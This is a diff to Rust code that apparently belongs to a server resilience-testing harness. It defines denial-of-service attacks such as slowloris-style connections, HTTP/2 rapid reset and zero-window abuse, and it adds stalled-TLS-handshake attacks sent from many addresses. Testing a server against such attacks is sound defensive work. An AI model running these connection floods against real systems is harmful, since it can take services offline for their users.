@@ -46,13 +46,22 @@ pub enum Attack {
     Pings,
     /// SETTINGS.
     Settings,
-    /// Answers that are not let through by HTTP/2's windows.
+    /// Triggers whose responses HTTP/2's windows do not let through.
     ZeroWindows,
-    /// Answers that are not read.
+    /// Pipelined triggers whose responses are not read.
     SlowReaders,
+    /// TLS handshakes that do not end, from one address; the client uses TLS.
+    StalledTls,
+    /// The same, from many addresses.
+    StalledTlsAddresses,
 }
 
 impl Attack {
+    /// Whether the operator serves TLS.
+    pub fn is_tls(self) -> bool {
+        matches!(self, Self::StalledTls | Self::StalledTlsAddresses)
+    }
+
     /// All of them.
     pub const ALL: &[Self] = &[
         Self::None,
@@ -67,6 +76,8 @@ impl Attack {
         Self::Settings,
         Self::ZeroWindows,
         Self::SlowReaders,
+        Self::StalledTls,
+        Self::StalledTlsAddresses,
     ];
 
     /// How many connections, and from how many addresses.
@@ -74,24 +85,27 @@ impl Attack {
         match self {
             Self::None => (0, 1),
             Self::SlowHeads => (20_000, 1),
-            Self::Silent => (9_000, 1),
-            Self::SilentAddresses => (10_000, 100),
+            Self::Silent | Self::StalledTls => (9_000, 1),
+            Self::SilentAddresses | Self::StalledTlsAddresses => (10_000, 100),
             Self::OneByte => (1_500, 2),
             Self::SlowBodies => (2_000, 1),
             Self::RapidReset | Self::Continuation | Self::Pings | Self::Settings => (20, 1),
-            Self::ZeroWindows => (100, 1),
-            // As many as do not make it a flood of requests.
-            Self::SlowReaders => (100, 1),
+            Self::ZeroWindows | Self::SlowReaders => (100, 1),
         }
     }
 
     /// What one connection does until it is closed.
     async fn act(self, stream: TcpStream, target: &Target) -> Result<()> {
         let (read, mut write) = stream.into_split();
-        let Target { address, path } = target;
+        let Target { address, path, .. } = target;
         let head = format!("POST {path} HTTP/1.1\r\nHost: {address}\r\n");
         match self {
             Self::None | Self::Silent | Self::SilentAddresses => until_closed(read).await,
+            Self::StalledTls | Self::StalledTlsAddresses => {
+                // A record of a handshake of 512 bytes, of which the first come.
+                write.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]).await?;
+                until_closed(read).await
+            }
             Self::OneByte => {
                 write.write_all(b"P").await?;
                 until_closed(read).await
@@ -101,20 +115,19 @@ impl Attack {
                 trickle(read, write, &format!("{head}Content-Length: 1000\r\n\r\n")).await
             }
             Self::SlowReaders => {
-                let requests = format!("{head}Content-Length: 0\r\nX-Other: /\r\n\r\n");
-                let requests = requests.replacen(path, "/not-there", 1).repeat(100);
+                let head = format!("{head}Content-Type: application/json\r\n");
+                let requests = format!("{head}Content-Length: 2\r\n\r\n{{}}").repeat(100);
                 // It is never read, so that it is not seen to be closed before something is written.
                 flood(&mut write, requests.as_bytes()).await
             }
             Self::ZeroWindows => {
                 // SETTINGS_INITIAL_WINDOW_SIZE is 0.
                 write.write_all(&http2::hello(&[0, 4, 0, 0, 0, 0])).await?;
-                // Many triggers would be another attack.
-                let elsewhere = Target { path: "/not-there".into(), ..target.clone() };
-                let block = http2::trigger(&elsewhere);
+                let block = http2::trigger(target);
                 for stream in (1..200).step_by(2) {
-                    let flags = END_STREAM | END_HEADERS;
-                    write.write_all(&frame(Kind::Headers, flags, stream, &block)).await?;
+                    let head = frame(Kind::Headers, END_HEADERS, stream, &block);
+                    let body = frame(Kind::Data, END_STREAM, stream, b"{}");
+                    write.write_all(&[head, body].concat()).await?;
                 }
                 until_closed(read).await
             }
